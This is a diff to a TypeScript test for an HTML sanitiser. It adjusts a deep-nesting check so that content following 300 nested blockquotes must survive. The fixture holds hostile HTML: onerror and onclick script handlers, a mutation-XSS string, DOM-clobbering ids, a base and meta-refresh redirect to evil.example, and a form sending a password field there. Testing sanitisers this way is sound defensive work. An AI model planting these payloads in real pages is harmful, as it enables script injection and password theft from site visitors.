@@ -152,7 +152,7 @@ describe('What an editor or a foul network puts into the content', () => {
     '<p style="position:fixed" onclick="alert(1)" class="account-area">c</p><form action="https://evil.example"><input name="password"></form>',
     '<math><mtext></form><mglyph><style></math><img src onerror=alert(1)>',
     '<h2 id="__next">d</h2><a id="formToken" name="cookie">e</a><base href="https://evil.example/"><meta http-equiv="refresh" content="0;url=https://evil.example">',
-    `${'<blockquote>'.repeat(300)}deep${'</blockquote>'.repeat(300)}`,
+    `${'<blockquote>'.repeat(300)}deep${'</blockquote>'.repeat(300)}<p>after all that</p>`,
   ].join('');
   const hostile = (value: unknown, name = ''): unknown => {
     if (Array.isArray(value)) return value.map((each) => hostile(each, name));
@@ -212,7 +212,7 @@ describe('What an editor or a foul network puts into the content', () => {
     expect(answer.status).toBe(200);
     expect(answer.ms).toBeLessThan(3_000);
     const tags = tagsOf(answer.body);
-    expect(answer.body).toContain('deep');
+    expect(answer.body).toContain('after all that');
     const isOurs = (tag: string) => /^<script type="(?:module|application\/ld\+json)"/.test(tag);
     expect(tags.filter((tag) => /^<script/i.test(tag) && !isOurs(tag))).toEqual([]);
     expect(tags.filter((tag) => /\s(?:on\w+|style|srcdoc|formaction)\s*=/i.test(tag))).toEqual([]);
